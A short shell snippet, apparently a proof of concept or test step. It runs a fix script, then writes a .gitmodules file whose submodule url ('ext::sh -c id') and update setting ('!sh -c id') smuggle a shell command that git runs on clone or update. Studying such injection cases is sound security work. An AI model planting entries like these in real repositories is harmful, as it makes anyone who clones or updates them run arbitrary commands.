python3 tools/fix.py

printf '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c id\n\tupdate = !sh -c id\n' > .gitmodules
